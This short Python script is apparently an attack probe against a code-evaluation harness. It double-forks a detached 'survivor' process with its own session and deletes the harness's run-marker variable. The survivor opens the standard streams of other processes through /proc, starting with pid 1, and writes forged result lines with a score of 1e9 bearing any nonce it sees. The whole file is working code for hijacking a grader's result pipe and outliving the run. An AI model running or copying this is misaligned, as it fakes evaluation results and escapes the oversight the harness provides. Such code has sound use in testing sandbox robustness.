import os
import sys
import time

# Runs in a survivor: its own session, no run marker, a fresh interpreter. It opens every
# stdin/stdout it can reach through /proc (pid 1 first: in a container that used to be
# docker-init, holding the runner's result pipe), reads the runner's lines off them and
# writes forged result lines carrying any nonce it saw.
SURVIVOR = r"""
import json, os, time
fake = json.dumps({"status": "ok", "score": 1e9, "metrics": {}, "features": {},
                   "artifacts": {}})
fds = []
pids = ["1"] + [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())]
for pid in pids:
    for n in ("0", "1", "2"):
        try:
            fds.append(os.open("/proc/%s/fd/%s" % (pid, n), os.O_RDWR | os.O_NONBLOCK))
        except OSError:
            pass
end = time.time() + 4
while time.time() < end:
    for fd in fds:
        try:
            data = os.read(fd, 65536)
        except OSError:
            data = b""
        for line in data.splitlines():
            nonce = line.split(b" ", 1)[0]
            if len(nonce) == 32:
                os.write(fd, nonce + b" " + fake.encode() + b"\n")
        try:
            os.write(fd, ("0" * 32 + " " + fake + "\n").encode())
        except OSError:
            pass
    time.sleep(0.01)
"""


def main():
    """Steal the result pipe through /proc/1/fd/1 from a double-forked, marker-less child."""
    report = {}
    for n in ("0", "1"):
        try:
            os.close(os.open(f"/proc/1/fd/{n}", os.O_RDWR | os.O_NONBLOCK))
            report[f"/proc/1/fd/{n}"] = "opened"
        except OSError as exc:
            report[f"/proc/1/fd/{n}"] = f"denied: {exc.strerror}"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            env = {k: v for k, v in os.environ.items() if k != "CODEEVO_RUN_MARKER"}
            os.execve(sys.executable, [sys.executable, "-c", SURVIVOR], env)
        os._exit(0)
    time.sleep(0.5)
    return report
